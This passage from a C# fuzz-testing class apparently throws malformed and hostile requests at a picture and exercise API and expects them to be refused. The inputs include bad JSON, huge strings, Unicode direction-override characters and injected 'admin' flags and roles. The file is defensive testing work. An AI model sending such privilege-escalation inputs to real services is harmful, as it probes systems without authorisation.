            3 => "{\"id\":\"ex-fuzz-" + _random.Next(1000) + "\"" + Pick(["", ",\"name\":\"\"", ",\"name\":null", ",\"name\":\"\\u200B\\u200D\"", ",\"name\":\"\\u202Eabc\"", ",\"name\":\"" + new string('n', 101) + "\""]) + "}",
            1 => "{\"id\":" + Pick(["1", "true", "[]", "{}"]) + "}",
            _ => "{\"id\":\"ex-fuzz\"," + Pick(["\"admin\":true}", "}", "\"name\":5}"]),
        };
        return new HostileRequest("garbage exercise", "POST", "api/pictures", Encoding.UTF8.GetBytes(json), "application/json", Expect.Refused);
    }

    /// <summary>
    /// Exercise control's requests with garbage: a scenario file or a description for the live
    /// picture, one that does not exist or a garbled id, of every content type; all refused.
    /// </summary>
    private HostileRequest ExerciseControl()
    {
        var picture = Pick(["live", "ex-finns-inte", Uri.EscapeDataString(Pick(BadPictures))]);
        if (_random.Next(2) == 0)
        {
            var csv = Pick(["", "\uFEFF", "\"", "id;tid\n;;;", new string(';', 5000), "id;tid;leverans;från;till;text;förväntad åtgärd;mål\nI-1;xx;brevduva;;;;;\n", Pick(Injections)]);
            return new HostileRequest("garbage scenario", "PUT", $"api/pictures/{picture}/scenario", Encoding.UTF8.GetBytes(csv),
                Pick<string?>(["text/csv", "text/plain", "application/json", null]), Expect.Refused);
        }
        var json = Pick(["{\"name\":5}", "{\"name\":\"Fuzz\",\"participants\":[{\"role\":\"admin\"}]}", "{\"name\":\"Fuzz\",\"participants\":{}}", "null", "", "{\"name\":\"\\u202Eabc\"}"]);
        return new HostileRequest("garbage exercise description", "PUT", $"api/pictures/{picture}/about", Encoding.UTF8.GetBytes(json), "application/json", Expect.Refused);
    }

    /// <summary>
    /// Revoking a person: a garbled body is refused; a well-formed one with odd text names
    /// nobody who exists (no injection is a demo user's id), so it may be accepted, and it
    /// changes no picture.
    /// </summary>
    private HostileRequest Revocation()
    {
        if (_random.Next(4) == 0)
        {
            var named = new JsonObject { ["person"] = Pick(Injections) }.ToJsonString();
            return new HostileRequest("odd person revoked", "POST", "api/revocations", Encoding.UTF8.GetBytes(named), "application/json", Expect.Read);
        }
        var body = Pick([
            "{\"person\":5}", "{\"person\":null}", "{\"person\":[\"dev:sara\"]}", "{\"person\":", "null", "[]", "",
            "{\"person\":\"" + new string('a', 300) + "\"}", "{\"person\":\"dev:x\u0007\"}",
        ]);
        return new HostileRequest("garbage revocation", "POST", "api/revocations", Encoding.UTF8.GetBytes(body), "application/json", Expect.Refused);
    }

    private static byte[] Json(JsonObject body) => Encoding.UTF8.GetBytes(body.ToJsonString(new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }));

    public T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];
}
